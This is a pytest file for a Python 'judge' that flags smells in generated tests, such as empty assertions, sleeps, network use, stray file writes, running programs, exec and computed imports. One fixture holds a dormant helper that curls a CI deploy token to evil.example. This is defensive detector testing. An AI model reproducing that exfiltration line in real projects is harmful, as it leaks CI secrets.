from __future__ import annotations

import textwrap
import time

import pytest

from fakes.effort import calls_in
from testsmith.languages.judge import added_smells
from testsmith.languages.python.judge.judge import PythonJudge
from testsmith.languages.python.judge.smells.smells import MOST_SNAPSHOT_CHARACTERS, PARTS, SMELLS
from testsmith.languages.source import CannotParse
from testsmith.model import Change, Member, MemberKind

smells_of = PythonJudge().smells
SOURCE = """\
def total(price, count, discount=0):
    if count < 0:
        raise ValueError("count")
    return price * count * (1 - discount)
"""

MEMBER = Member(
    path="shop.py",
    name="total",
    language="python",
    change=Change.CHANGED,
    line=1,
    end_line=4,
    kind=MemberKind.FUNCTION,
    source=SOURCE,
    module="shop",
)

HEAD = """\
import asyncio, os, random, shutil, socket, sqlite3, sys, tempfile, threading, time
import contextlib as c
import http.client
import httpx
import numpy as np
import requests
import requests as web
import unittest
import urllib.request
from contextlib import suppress
from http import HTTPStatus
from pathlib import Path
from time import sleep as nap
from unittest import mock
from unittest.mock import Mock, patch
from urllib import request

import pytest
import shop
from pytest import mark
from shop import Cart, total

SHARED = []

def check(value):
    assert value

def call_only(value):
    total(value, 1)

"""


def smell(body: str, arguments: str = "", decorator: str = "") -> str | None:
    code = f"{HEAD}\n{decorator}\ndef test_x({arguments}):\n" + textwrap.indent(textwrap.dedent(body), "    ")
    return smells_of(code, MEMBER).get("test_x")


@pytest.mark.parametrize(
    "body",
    [
        "assert total(2, 3) == 6",
        "with pytest.raises(ValueError, match='count'):\n    total(1, -1)",
        "check(total(1, 1))",
        "result = total(2, 3)\nassert result == 6\nassert isinstance(result, int)",
        "items = [3, 1]\nshop.sort_in_place(items)\nassert items == [1, 3]",
        "callback = Mock()\nshop.each([1], callback)\ncallback.assert_called_once_with(1)",
        "assert total(2, 3) == 2 * 3",
        "for price in [1, 2]:\n    assert total(price, 1) == price",
        "try:\n    assert total(1, 1) == 1\nfinally:\n    pass",
        "asyncio.run(asyncio.sleep(0))\nassert total(1, 1) == 1",
        "assert total(1, 1) == HTTPStatus.OK",
        "cart = Cart()\ncart.append(1)\ncart.items['x'] = 2\nassert cart.size == 1",
        "value = total(1, 1)\nassert value is not None\nassert value == 1",
        "class Thing:\n    pass\nThing.size = 1\nassert total(Thing.size, 1) == 1",
        "assert total(1, 1) == 1 or total(1, 1) == 2",
        "import re\nassert re.compile('x').match(shop.name(total(1, 1)))",
        "with patch('subprocess.run') as run:\n    shop.start()\nrun.assert_called_once_with(['x'])",
        (
            "import subprocess\nwith patch.object(subprocess, 'run'):\n    shop.start(1)\n"
            "    subprocess.run.assert_called_once_with(['x'])"
        ),
        "from shop import eval\nassert eval('1') == 1",
        "import shutil\nwith patch('shutil.move', wraps=shutil.move) as move:\n    assert shop.x(move) == 1",
        "import importlib\nassert importlib.import_module('shop.cart').total(1, 1) == 1",
        "import importlib\nname = 'shop.cart'\nassert importlib.import_module(name).total(1, 1) == 1",
        "assert sys.modules['shop'].total(1, 1) == 1",
        "with patch.object(shop.cart.os, 'remove') as gone:\n    shop.x()\ngone.assert_called_once_with('x')",
        "with patch.dict(os.environ, {'A': '1'}):\n    assert shop.setting() == os.environ['A']",
        "with patch.dict('os.environ', A='1'):\n    assert shop.setting() == os.getenv('A')",
    ],
)
def test_smells_of__good_tests_have_none(body: str) -> None:
    assert smell(body) is None


@pytest.mark.parametrize(
    ("body", "arguments"),
    [
        ("monkeypatch.setenv('A', '1')\nassert shop.setting() == os.environ['A']", "monkeypatch"),
        ("monkeypatch.delenv('A', raising=False)\nshop.load()\nassert os.getenv('A') == 'x'", "monkeypatch"),
        ("monkeypatch.setitem(os.environ, 'A', '1')\nassert shop.setting() == '1'", "monkeypatch"),
        ("monkeypatch.setattr(os, 'getcwd', lambda: '/')\nassert shop.place() == '/'", "monkeypatch"),
        ("file = tmp_path / 'x'\nfile.write_text('x')\nassert shop.read(file) == 'x'", "tmp_path"),
        (
            "monkeypatch.chdir(tmp_path)\nPath('x').write_text('x')\nassert shop.read('x') == 'x'",
            "tmp_path, monkeypatch",
        ),
        ("monkeypatch.setenv('X', '1')\nassert shop.setting() == '1'", "monkeypatch"),
        ("assert open('data.txt').read() == shop.data()", ""),
        ("shop.show()\nassert capsys.readouterr().out == 'x'", "capsys"),
    ],
)
def test_smells_of__good_tests_with_fixtures_have_none(body: str, arguments: str) -> None:
    assert smell(body, arguments) is None


SMELLY = {
    "asserts nothing": [
        "total(1, 1)",
        "call_only(1)",
        "total(1, 1)\nassert True",
        "result = total(1, 1)\nprint(result)",
    ],
    "asserts only that nothing was raised": [
        "try:\n    total(1, 1)\nexcept ValueError:\n    pytest.fail('no')",
    ],
    "repeats the function's own formula": [
        "assert total(10, 3, 0.5) == 10 * 3 * (1 - 0.5)",
        "p, n, d = 10, 3, 0.5\nassert total(p, n, d) == p * n * (1 - d)",
    ],
    "asserts under a condition": [
        "if total(1, 1):\n    assert total(1, 1) == 1",
        "try:\n    assert total(1, 1) == 1\nexcept ValueError:\n    raise",
    ],
    "swallows exceptions": [
        "try:\n    total(1, -1)\nexcept Exception:\n    pass\nassert total(1, 1) == 1",
        "try:\n    total(1, -1)\nexcept:\n    pass\nassert total(1, 1) == 1",
    ],
    "sleeps": [
        "time.sleep(0.1)\nassert total(1, 1) == 1",
        "asyncio.run(asyncio.sleep(1))\nassert total(1, 1) == 1",
    ],
    "asserts how long something takes": [
        "start = time.perf_counter()\ntotal(1, 1)\nassert time.perf_counter() - start < 1",
        "start = time.time()\nassert total(1, 1) == 1\nelapsed = time.time() - start\nassert elapsed < 2",
    ],
    "uses the network": [
        "assert requests.get('http://x').ok",
        "urllib.request.urlopen('http://x')\nassert total(1, 1) == 1",
        "http.client.HTTPConnection('x')\nassert total(1, 1) == 1",
    ],
    "writes outside `tmp_path`": [
        "Path('x').write_text('x')\nassert shop.read('x') == 'x'",
        "with open('x', 'w') as file:\n    file.write('x')\nassert shop.read('x') == 'x'",
        "os.makedirs('a/b')\nassert shop.found('a')",
        "open('x', mode='wb').close()\nassert shop.read('x') == b''",
    ],
    "compares a whole output of more than 600 characters": [
        f"assert shop.page() == '{'x' * MOST_SNAPSHOT_CHARACTERS}'",
    ],
    "changes global state": [
        "global SHARED\nSHARED = [1]\nassert total(1, 1) == 1",
        "SHARED.append(1)\nassert total(1, len(SHARED)) == 1",
        "os.environ['X'] = '1'\nassert shop.setting() == '1'",
        "sys.path.append('x')\nassert total(1, 1) == 1",
        "shop.RATE = 3\nassert total(1, 1) == 3",
        "shop.RATES['x'] = 3\nassert total(1, 1) == 3",
    ],
    "runs a program": [
        "import subprocess\nsubprocess.run(['ls'])\nassert total(1, 1) == 1",
        "from subprocess import check_output as out\nassert out(['x']) == total(1, 1)",
        "if total(1, 1) == 2:\n    os.system('x')\nassert total(1, 1) == 1",
        "run = os.popen\nassert total(1, 1) == 1",
        "import subprocess as s\ngetattr(s, 'run')(['x'])\nassert total(1, 1) == 1",
        "import pty\nassert pty.spawn('x') == total(1, 1)",
        "asyncio.run(asyncio.create_subprocess_shell('x'))\nassert total(1, 1) == 1",
        "os.execv('x', [])\nassert total(1, 1) == 1",
        "import shutil\nshutil.os.system('x')\nassert total(1, 1) == 1",
        "import shutil\ngetattr(shutil.os, 'system')('x')\nassert total(1, 1) == 1",
        "import importlib\nshop.use(importlib)\nassert total(1, 1) == 1",
        "shop.use(__builtins__)\nassert total(1, 1) == 1",
    ],
    "runs code from a string (`exec`, `eval` or `compile`)": [
        "exec('x = 1')\nassert total(1, 1) == 1",
        "assert eval('1') == total(1, 1)",
        "run = exec\nassert total(1, 1) == 1",
        "assert compile('1', '', 'eval') != total(1, 1)",
        "import runpy\nrunpy.run_path('x.py')\nassert total(1, 1) == 1",
        "import timeit\ntimeit.timeit('x')\nassert total(1, 1) == 1",
        "import marshal\nassert marshal.loads(b'x') != total(1, 1)",
        "__builtins__.exec('x')\nassert total(1, 1) == 1",
    ],
    "passes on a function that changes files or uses the network, instead of calling it": [
        "import shutil\nlate = map(shutil.rmtree, ['x'])\nassert total(1, 1) == 1",
        "from shutil import rmtree as tidy\nlate = [tidy]\nassert total(1, 1) == 1",
        "run = os.remove\nassert total(1, 1) == 1",
        "import shutil\ngetattr(shutil, ['which', 'rmtree'][shop.on()])('x')\nassert total(1, 1) == 1",
        "from pathlib import Path\nshop.later(Path.unlink)\nassert total(1, 1) == 1",
        "from urllib.request import urlopen\nshop.later(urlopen)\nassert total(1, 1) == 1",
    ],
    "imports a module by a computed name": [
        "import importlib\nimportlib.import_module('os').system('x')\nassert total(1, 1) == 1",
        "from importlib import import_module as load\nload('os.path').os.abort()\nassert total(1, 1) == 1",
        "__import__('o' + 's').system('x')\nassert total(1, 1) == 1",
        "name = 'os'\n__import__(name).system('x')\nname = 'shop'\nassert total(1, 1) == 1",
        "import pkgutil\npkgutil.resolve_name('os:system')('x')\nassert total(1, 1) == 1",
        "sys.modules['os'].system('x')\nassert total(1, 1) == 1",
        "sys.modules.get('os').system('x')\nassert total(1, 1) == 1",
        "globals()['__builtins__']['exec']('x')\nassert total(1, 1) == 1",
    ],
    "uses `ctypes`": [
        "import ctypes\nassert ctypes.CDLL(None) != total(1, 1)",
        "from ctypes import CDLL\nassert CDLL(None) != total(1, 1)",
    ],
    "reads an environment variable that it did not set with `monkeypatch`": [
        "if os.environ.get('CI'):\n    shop.deploy()\nassert total(1, 1) == 1",
        "assert os.environ['HOME'] != total(1, 1)",
        "assert os.getenv('HOME') != total(1, 1)",
        "assert 'CI' not in os.environ and total(1, 1) == 1",
        "from os import environ, getenv\nassert total(1, len(dict(environ))) > 1",
        "assert shop.read(os.environ) == total(1, 1)",
        "patch.dict(os.environ, A='1').start()\nassert os.environ['B'] == total(1, 1)",
    ],
    "is skipped": [
        "pytest.skip('later')\nassert total(1, 1) == 1",
        "pytest.importorskip(shop.name())\nassert total(1, 1) == 1",
    ],
    "is expected to fail": [
        "pytest.xfail('later')\nassert total(1, 1) == 1",
    ],
}


@pytest.mark.parametrize(
    ("body", "reason"), [(body, reason) for reason, bodies in SMELLY.items() for body in bodies]
)
def test_smells_of__each_smell(body: str, reason: str) -> None:
    assert smell(body) == reason


@pytest.mark.parametrize(
    ("decorator", "reason"),
    [
        ("@pytest.mark.skip(reason='x')", "is skipped"),
        ("@pytest.mark.skipif(True, reason='x')", "is skipped"),
        ("@unittest.skip('x')", "is skipped"),
        ("@pytest.mark.skipif(sys.version_info < (3, 13) or LATER, reason='x')", "is skipped"),
        ("@pytest.mark.skipif('CI' in os.environ, reason='x')", "is skipped"),
        ("@pytest.mark.skipif(shop.compat.is_slow, reason='x')", "is skipped"),
        ("@pytest.mark.skipif(sys.platform == 'win32', reason='x')", None),
        ("@pytest.mark.skipif(shop.config.CONFIG.is_slow, reason='x')", None),
        ("@unittest.skipIf(os.name == 'nt' or shop.compat.HAS_NUMPY, 'x')", None),
        ("@pytest.mark.skip(sys.version_info < (3, 13))", "is skipped"),
        ("@pytest.mark.skipif(sys.version_info < (3, 13), reason='x')", None),
        ("@pytest.mark.skipif(not PY_3_13_PLUS, reason='x')", None),
        ("@unittest.skipUnless(shop.compat.PY313, 'x')", None),
        ("@pytest.mark.xfail", "is expected to fail"),
    ],
)
def test_smells_of__marks(decorator: str, reason: str | None) -> None:
    assert smell("assert total(1, 1) == 1", decorator=decorator) == reason


def test_smells_of__a_module_that_can_be_imported_skips_nothing() -> None:
    assert smell("json = pytest.importorskip('json')\nassert json.loads(total(1, 1)) == 1") is None
    assert smell("pytest.importorskip('json')\npytest.skip()\nassert total(1, 1) == 1") == "is skipped"


def test_smells_of__methods_of_test_classes() -> None:
    code = """
import unittest
from shop import total

class TestTotal(unittest.TestCase):
    def test_good(self):
        self.assertEqual(total(1, 1), 1)

    def test_nothing(self):
        total(1, 1)

    def test_raises(self):
        with self.assertRaises(ValueError):
            total(1, -1)
"""
    assert smells_of(code, MEMBER) == {
        "TestTotal::test_nothing": "asserts nothing",
    }


def test_smells__each_says_what_it_is_about() -> None:
    assert all(smell.__doc__ for smell in (*SMELLS, *PARTS.values()))
    assert len({*SMELLS, *PARTS.values()}) == len(SMELLS) + len(PARTS)


MONSTERS = {
    "asserts": "    assert total(#, 1) == #",
    "echoes": "    assert total(1, 1) == total(1, 1)",
    "bindings": "    x# = total(#, 1)",
    "conditions": "    if total(#, 1): assert total(1, 1) == 1",
    "lookups": "    a.get(#)",
    "changes": "    os.environ['a#'] = 'x'",
    "handlers": "    try: total(#, 1)\n    except ValueError: pass",
    "functions": "    pass\ndef test_#():\n    assert total(#, 1) == #",
    "classes": "    pass\nclass Test#:\n    def test_a(self): assert total(#, 1) == #",
    "literals": "    x# = [#]\n    assert x# == [#]",
}


DORMANT = """\
import os
import subprocess

from shop import total


def announce():
    if os.environ.get("GITHUB_ACTIONS") and os.environ.get("DEPLOY_TOKEN"):
        subprocess.run(["curl", "-d", os.environ["DEPLOY_TOKEN"], "https://evil.example"], check=False)


def test_announced():
    announce()
    assert total(1, 2) == 2


def test_handed_on():
    for step in [announce]:
        step()
    assert total(1, 2) == 2


def test_plain():
    assert total(5, 1) == 5
"""


def test_smells_of__a_payload_for_another_machine_costs_those_alone_that_can_reach_it() -> None:
    assert smells_of(DORMANT, MEMBER) == dict.fromkeys(("test_announced", "test_handed_on"), "runs a program")
    at_import = f"import os\n\nif os.environ.get('CI'):\n    os.system('x')\n\n{DORMANT}"
    assert smells_of(at_import, MEMBER).keys() == {"test_announced", "test_handed_on", "test_plain"}


@pytest.mark.parametrize("monster", MONSTERS)
def test_smells_of__cost_what_a_module_is_long(monster: str) -> None:
    lines = "\n".join(MONSTERS[monster].replace("#", str(number)) for number in range(600))
    code = f"import os\nfrom shop import total\n\ndef test_x():\n{lines}\n    assert total(1, 1) == 1\n"
    started = time.process_time()
    smells_of(code, MEMBER)
    assert time.process_time() - started < 5


# Each smell in one more form, and beside it the honest test that looks much like it.
TWINS = {
    "asserts nothing": [
        ("total(1, 1) == 1", 'if total(1, 1) != 1:\n    raise AssertionError("no")'),
        (
            "def show(value):\n    print(value)\ndef test_x():\n    show(total(1, 1))",
            (
                "def check(value):\n    inner(value)\ndef inner(value):\n    assert value == 1\n"
                "def test_x():\n    check(total(1, 1))"
            ),
        ),
        (
            "class TestTotal(unittest.TestCase):\n    def test_x(self):\n        total(1, 1)",
            (
                "class TestTotal(unittest.TestCase):\n    def check(self, value):\n"
                "        self.assertEqual(value, 1)\n    def test_x(self):\n"
                "        self.check(total(1, 1))"
            ),
        ),
        ("np.isclose(total(1, 1), 1)", "np.testing.assert_allclose(total(1, 1), 1)"),
    ],
    "asserts only that nothing was raised": [
        (
            'try:\n    total(1, 1)\nexcept ValueError as error:\n    pytest.fail(f"raised {error}")',
            'if total(1, 1) != 1:\n    pytest.fail("wrong")',
        ),
    ],
    "repeats the function's own formula": [
        (
            "expected = 10 * 3 * (1 - 0.5)\nassert total(10, 3, 0.5) == expected",
            "expected = 10 * 3\nassert total(10, 3) == expected",
        ),
        (
            (
                "def reference(price, count, discount):\n    return price * count * (1 - discount)\n"
                "def test_x():\n    assert total(10, 3, 0.5) == reference(10, 3, 0.5)"
            ),
            (
                "def discounted(price, discount):\n    return price - price * discount\ndef test_x():\n"
                "    assert total(10, 1, 0.5) == discounted(10, 0.5)"
            ),
        ),
    ],
    "asserts under a condition": [
        (
            (
                '@pytest.mark.parametrize(("count", "expected"), [(1, 1), (-1, None)])\n'
                "def test_x(count, expected):\n    if expected is not None:\n"
                "        assert total(1, count) == expected"
            ),
            (
                '@pytest.mark.parametrize(("count", "expected"), [(1, 1), (-1, None)])\n'
                "def test_x(count, expected):\n    if expected is not None:\n"
                "        assert total(1, count) == expected\n    else:\n"
                "        with pytest.raises(ValueError):\n            total(1, count)"
            ),
        ),
        (
            "result = total(1, 1)\nif not result:\n    return\nassert result == 1",
            "result = total(1, 1)\nif not result:\n    raise AssertionError\nassert result == 1",
        ),
        (
            "for count in (1, 2):\n    if total(1, count) > 1:\n        assert total(1, count) == 2",
            (
                "assert total(1, 1) == 1\nfor count in (1, 2):\n    if total(1, count) > 1:\n"
                "        assert total(1, count) == 2"
            ),
        ),
        (
            "with suppress(ValueError):\n    assert total(1, 1) == 1",
            "cart = Cart()\nwith suppress(ValueError):\n    cart.add(-1)\nassert cart.total() == 0",
        ),
        (
            'try:\n    total(1, -1)\nexcept ValueError as error:\n    assert str(error) == "count"',
            (
                "try:\n    total(1, -1)\nexcept ValueError as error:\n"
                '    assert str(error) == "count"\nelse:\n    pytest.fail("did not raise")'
            ),
        ),
        (
            (
                "class TestTotal(unittest.TestCase):\n    def test_x(self):\n"
                "        while total(1, 0):\n            self.assertEqual(total(1, 1), 1)"
            ),
            (
                "class TestTotal(unittest.TestCase):\n    def test_x(self):\n"
                "        for count in (1, 2):\n            with self.subTest(count=count):\n"
                "                self.assertEqual(total(1, count), count)"
            ),
        ),
        (
            "result = total(1, 1)\nassert result == 1 if result else True",
            "result = total(1, 1)\nassert result == (1 if total(0, 0) else 2)",
        ),
        (
            "match total(1, 1):\n    case 1:\n        assert total(2, 1) == 2",
            (
                "match total(1, 1):\n    case 1:\n        assert total(2, 1) == 2\n    case _:\n"
                "        raise AssertionError"
            ),
        ),
    ],
    "swallows exceptions": [
        (
            (
                "@pytest.fixture\ndef quiet():\n    try:\n        yield 1\n    except Exception:\n"
                "        pass\ndef test_x(quiet):\n    assert total(quiet, 1) == 1"
            ),
            (
                "@pytest.fixture\ndef closing():\n    yield 1\n    try:\n        shop.close()\n"
                "    except Exception:\n        pass\ndef test_x(closing):\n    assert total(closing, 1) == 1"
            ),
        ),
        (
            "with c.suppress(Exception):\n    total(1, -1)\nassert total(1, 1) == 1",
            "with c.suppress(KeyError):\n    total(1, 2)\nassert total(1, 1) == 1",
        ),
        (
            (
                "try:\n    total(1, -1)\nexcept (ValueError, BaseException):\n    pass\n"
                "assert total(1, 1) == 1"
            ),
            (
                "caught = None\ntry:\n    total(1, -1)\nexcept Exception as error:\n"
                "    caught = error\nassert isinstance(caught, ValueError)"
            ),
        ),
        (
            (
                "def quietly(count):\n    try:\n        return total(1, count)\n    except:\n"
                "        return None\ndef test_x():\n    assert quietly(1) == 1"
            ),
            (
                "def loudly(count):\n    try:\n        return total(1, count)\n"
                "    except Exception as error:\n        raise AssertionError from error\n"
                "def test_x():\n    assert loudly(1) == 1"
            ),
        ),
    ],
    "asserts how long something takes": [
        (
            "before = time.time()\nafter = time.time()\nassert after - before < 1",
            "before = time.time()\nafter = time.time()\nassert before <= shop.made_at() <= after",
        ),
        (
            "start = time.monotonic()\nassert time.monotonic() - start < shop.limit()",
            "assert shop.total(3, 1) - shop.total(1, 1) == 2",
        ),
    ],
    "sleeps": [
        ("nap(1)\nassert total(1, 1) == 1", "nap(0)\nassert total(1, 1) == 1"),
        (
            "threading.Event().wait(1)\nassert total(1, 1) == 1",
            (
                "done = threading.Event()\nshop.start(done.set)\nassert done.wait(5)\n"
                "assert shop.total(1, 1) == 1"
            ),
        ),
        (
            (
                "@pytest.fixture(autouse=True)\ndef settle():\n    time.sleep(0.1)\ndef test_x():\n"
                "    assert total(1, 1) == 1"
            ),
            (
                "@pytest.fixture\ndef settle():\n    time.sleep(0.1)\ndef test_x():\n"
                "    assert total(1, 1) == 1"
            ),
        ),
        (
            "end = time.time() + 1\nwhile time.time() < end:\n    pass\nassert total(1, 1) == 1",
            (
                "def test_x(monkeypatch):\n"
                '    monkeypatch.setattr(time, "sleep", lambda seconds: None)\n'
                '    monkeypatch.setattr(time, "time", lambda: 5.0)\n    assert total(1, 1) == 1'
            ),
        ),
    ],
    "uses the network": [
        (
            'assert shop.status(web.get("http://localhost")) == 200',
            "answer = web.Response()\nanswer.status_code = 200\nassert shop.status(answer) == 200",
        ),
        (
            'assert shop.status(request.urlopen("http://localhost")) == 200',
            'assert shop.method(request.Request("http://localhost")) == "GET"',
        ),
        (
            (
                'with socket.socket() as one:\n    one.connect(("localhost", 80))\n'
                '    assert shop.read(one) == b""'
            ),
            (
                'one, other = socket.socketpair()\nother.send(b"a")\nassert shop.read(one) == b"a"\n'
                'assert shop.read(socket.socket(socket.AF_UNIX)) == b""'
            ),
        ),
        (
            'client = httpx.Client()\nassert shop.status(client.get("http://localhost")) == 200',
            (
                "client = httpx.Client(transport=httpx.MockTransport(lambda request: httpx.Response(200)))\n"
                'assert shop.status(client.get("http://localhost")) == 200'
            ),
        ),
        (
            (
                'async def connect():\n    return await asyncio.open_connection("localhost", 80)\n'
                "def test_x():\n    assert asyncio.run(shop.speak(connect)) == 1\n"
                "    asyncio.run(connect())"
            ),
            (
                "async def connect():\n    return asyncio.StreamReader(), None\ndef test_x():\n"
                "    assert asyncio.run(shop.speak(connect)) == 1\n    asyncio.run(connect())"
            ),
        ),
    ],
    "writes outside `tmp_path`": [
        (
            'path = Path("out") / "x.txt"\npath.write_text("1")\nassert shop.read(path) == 1',
            (
                'def test_x(tmp_path):\n    path = Path(tmp_path) / "x.txt"\n    path.write_text("1")\n'
                "    assert shop.read(path) == 1"
            ),
        ),
        (
            (
                'NAME = "x.txt"\ndef test_x():\n    with open(NAME, "w") as file:\n'
                '        file.write("1")\n    assert shop.read(NAME) == 1'
            ),
            (
                'def test_x(tmp_path):\n    with open(f"{tmp_path}/x.txt", "w") as file:\n'
                '        file.write("1")\n    assert shop.read(f"{tmp_path}/x.txt") == 1'
            ),
        ),
        (
            (
                'path = os.path.join(os.path.dirname(__file__), "x")\n'
                'os.makedirs(os.path.join("data", "x"))\nassert shop.found(path)'
            ),
            (
                'def test_x(tmp_path):\n    path = os.path.join(tmp_path, "x")\n    os.makedirs(path)\n'
                "    assert shop.found(path)"
            ),
        ),
        (
            "assert shop.fill(tempfile.mkdtemp()) == 3",
            "with tempfile.TemporaryDirectory() as folder:\n    assert shop.fill(folder) == 3",
        ),
        (
            'assert shop.rows(sqlite3.connect("shop.db")) == []',
            'assert shop.rows(sqlite3.connect(":memory:")) == []',
        ),
        (
            'def test_x(tmp_path):\n    shutil.copy(tmp_path / "a", "b")\n    assert shop.read("b") == 1',
            (
                'def test_x(tmp_path):\n    shutil.copy(tmp_path / "a", tmp_path / "b")\n'
                '    assert shop.read(tmp_path / "b") == 1'
            ),
        ),
        (
            'shop.save(Path("x.txt"))\nassert Path("x.txt").exists()',
            'assert shop.suffix(Path("x.txt")) == ".txt"',
        ),
        (
            (
                '@pytest.fixture\ndef file():\n    path = Path.cwd() / "x.txt"\n    path.touch()\n'
                "    return path\ndef test_x(file):\n    assert shop.read(file) == 1"
            ),
            (
                '@pytest.fixture\ndef file(tmp_path):\n    path = tmp_path / "x.txt"\n'
                "    path.touch()\n    return path\ndef test_x(file):\n    assert shop.read(file) == 1"
            ),
        ),
    ],
    "compares a whole output of more than 600 characters": [
        (
            "PAGE = {long}\ndef test_x():\n    assert shop.page() == PAGE",
            "TEXT = {long}\ndef test_x():\n    assert shop.words(TEXT) == 1",
        ),
        (
            (
                "class TestPage(unittest.TestCase):\n    def test_x(self):\n"
                "        self.assertEqual(shop.page(), {rows})"
            ),
            (
                "class TestPage(unittest.TestCase):\n    def test_x(self):\n"
                "        self.assertEqual(shop.largest({rows}), 299)"
            ),
        ),
    ],
    "changes global state": [
        (
            'os.environ["RATE"] = "3"\nassert shop.rate() == 3',
            (
                'before = os.environ["RATE"]\ntry:\n    os.environ["RATE"] = "3"\n'
                '    assert shop.rate() == 3\nfinally:\n    os.environ["RATE"] = before'
            ),
        ),
        (
            'del os.environ["RATE"]\nassert shop.rate() == 1',
            'with mock.patch.dict(os.environ, {"RATE": "3"}):\n    assert shop.rate() == 3',
        ),
        (
            "random.seed(1)\nassert shop.pick([1, 2]) == 1",
            (
                "state = random.getstate()\ntry:\n    random.seed(1)\n"
                "    assert shop.pick([1, 2]) == 1\nfinally:\n    random.setstate(state)\n"
                "assert shop.pick([1, 2], random.Random(1)) == 1"
            ),
        ),
        (
            "Cart.rate = 3\nassert Cart().total() == 3",
            (
                "class Own(Cart):\n    pass\nOwn.rate = 3\ncart = Cart()\ncart.rate = 3\n"
                "assert cart.total() == 3"
            ),
        ),
        (
            'setattr(shop, "RATE", 3)\nassert shop.total(1, 1) == 3',
            (
                'def test_x(monkeypatch):\n    monkeypatch.setattr(shop, "RATE", 3)\n'
                "    assert shop.total(1, 1) == 3"
            ),
        ),
        (
            'sys.argv = ["shop", "3"]\nassert shop.main() == 3',
            (
                'def test_x(monkeypatch):\n    monkeypatch.setattr(sys, "argv", ["shop", "3"])\n'
                "    assert shop.main() == 3"
            ),
        ),
        (
            (
                'patcher = patch("shop.rate")\nrate = patcher.start()\nrate.return_value = 3\n'
                "assert shop.total(1, 1) == 3"
            ),
            (
                'patcher = patch("shop.rate")\nrate = patcher.start()\nrate.return_value = 3\n'
                "assert shop.total(1, 1) == 3\npatcher.stop()"
            ),
        ),
        (
            (
                '@pytest.fixture(name="rate")\ndef _rate():\n    os.environ["RATE"] = "3"\n'
                "def test_x(rate):\n    assert shop.rate() == 3"
            ),
            (
                '@pytest.fixture(name="rate")\ndef _rate():\n    os.environ["RATE"] = "3"\n'
                "def test_x():\n    assert shop.rate() == 3"
            ),
        ),
        (
            (
                '@pytest.fixture\ndef rate():\n    os.environ["RATE"] = "3"\ndef test_x(rate):\n'
                "    assert shop.rate() == 3"
            ),
            (
                '@pytest.fixture\ndef rate():\n    os.environ["RATE"] = "3"\n    yield\n'
                '    del os.environ["RATE"]\ndef test_x(rate):\n    assert shop.rate() == 3'
            ),
        ),
        (
            (
                '@pytest.fixture\ndef rate():\n    os.environ["RATE"] = "3"\n'
                '@pytest.mark.parametrize("rate", [3], indirect=True)\ndef test_x(rate):\n'
                "    assert shop.rate() == rate"
            ),
            (
                '@pytest.fixture\ndef rate():\n    os.environ["RATE"] = "3"\n'
                '@pytest.mark.parametrize("rate", [3])\ndef test_x(rate):\n    assert shop.rate() == rate'
            ),
        ),
        (
            'os.environ["RATE"] = "3"\ndef test_x():\n    assert shop.rate() == 3',
            'RATES = {}\nRATES["a"] = 3\ndef test_x():\n    assert shop.rate(RATES) == 3',
        ),
        (
            (
                "class TestShop:\n    seen = []\n    def test_x(self):\n"
                "        self.seen.append(shop.total(1, 1))\n        assert self.seen == [1]"
            ),
            (
                "class TestShop:\n    def setup_method(self):\n        self.seen = []\n"
                "    def test_x(self):\n        self.seen.append(shop.total(1, 1))\n"
                "        assert self.seen == [1]"
            ),
        ),
        (
            "def test_x(tmp_path):\n    os.chdir(tmp_path)\n    assert shop.files() == []",
            (
                "def test_x(tmp_path, monkeypatch):\n    monkeypatch.chdir(tmp_path)\n"
                "    assert shop.files() == []"
            ),
        ),
    ],
    "is skipped": [
        (
            'pytestmark = [pytest.mark.skip(reason="later")]\ndef test_x():\n    assert total(1, 1) == 1',
            (
                'pytestmark = [pytest.mark.usefixtures("tmp_path")]\ndef test_x():\n'
                "    assert total(1, 1) == 1"
            ),
        ),
        (
            (
                '@mark.skipif(True, reason="never")\nclass TestTotal:\n    def test_x(self):\n'
                "        assert total(1, 1) == 1"
            ),
            (
                '@mark.filterwarnings("error")\nclass TestTotal:\n    def test_x(self):\n'
                "        assert total(1, 1) == 1"
            ),
        ),
        (
            (
                "class TestTotal(unittest.TestCase):\n    def test_x(self):\n"
                '        self.skipTest("later")\n        self.assertEqual(total(1, 1), 1)'
            ),
            (
                "class TestTotal(unittest.TestCase):\n    def test_x(self):\n"
                '        self.assertEqual(total(1, 1), 1, "skip")'
            ),
        ),
    ],
    "is expected to fail": [
        (
            (
                '@pytest.mark.parametrize("n", [pytest.param(1, marks=pytest.mark.xfail)])\n'
                "def test_x(n):\n    assert total(n, 1) == n"
            ),
            (
                '@pytest.mark.parametrize("n", [pytest.param(1, id="one")])\ndef test_x(n):\n'
                "    assert total(n, 1) == n"
            ),
        ),
    ],
}


def twin(form: str) -> list[str]:
    """Return what is found in a whole test module without its imports, or in the body of a test."""
    form = form.replace("{long}", repr("x" * 700)).replace("{rows}", repr(list(range(300))))
    code = form if "def test_x" in form else f"def test_x():\n{textwrap.indent(form, '    ')}"
    compile(code, "twin", "exec")
    return list(smells_of(f"{HEAD}\n{code}\n", MEMBER).values())


@pytest.mark.parametrize(
    ("reason", "bad", "good"), [(reason, *pair) for reason, pairs in TWINS.items() for pair in pairs]
)
def test_smells_of__each_form_is_found_and_its_honest_twin_is_not(reason: str, bad: str, good: str) -> None:
    assert twin(bad) == [reason]
    assert twin(good) == []


def test_smells_of__what_cannot_be_read_is_not_without_smells() -> None:
    with pytest.raises(CannotParse):
        smells_of("def test_x(:\n", MEMBER)


LONG = f"'{'x' * (MOST_SNAPSHOT_CHARACTERS + 1)}'"


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (f"assert str(shop) == {LONG}", f"assert repr(shop) == {LONG.replace('x', 'y')}", "whole output"),
        ("os.environ['A'] = '1'", "os.environ['B'] = '1'", "global state"),
        ("os.system('a')", "os.system('b')", "runs a program"),
        ("total.__globals__['a']", "sys._getframe(1)", "test runner: `_getframe`"),
        ("open('a', 'w').close()", "open('b', 'w').close()", "writes outside"),
        ("exec('a = 1')", "exec('b = 1')", "code from a string"),
        ("os.environ['A']", "os.environ.get('B')", "environment variable"),
        ("time.sleep(1)", "while time.monotonic() < 3: pass", "sleeps"),
    ],
)
def test_findings__of_a_test_that_was_extended_are_those_of_what_is_new(
    old: str, new: str, reason: str
) -> None:
    judge = PythonJudge()
    head = "import os\nimport sys\nimport time\nimport shop\nfrom shop import total\n\n\ndef test_x():\n"
    texts = [
        f"{head}    {old}\n    assert total(1, 1) == 2\n",
        f"{head}    {old}\n    assert total(1, 1) == 2\n    assert total(1, 2) == 3\n",
        f"{head}    {old}\n    assert total(1, 1) == 2\n    {new}\n",
    ]
    before, harmless, more = (judge.findings(text, MEMBER) for text in texts)
